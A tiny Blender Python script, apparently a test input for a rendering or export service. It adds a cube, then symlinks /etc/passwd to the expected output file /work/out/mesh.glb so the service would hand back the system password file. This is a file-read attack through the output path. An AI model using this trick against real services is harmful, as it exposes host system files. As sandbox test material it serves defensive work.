# Puts a link where the mesh is expected.
import os

import bpy

bpy.ops.mesh.primitive_cube_add()
os.symlink("/etc/passwd", "/work/out/mesh.glb")
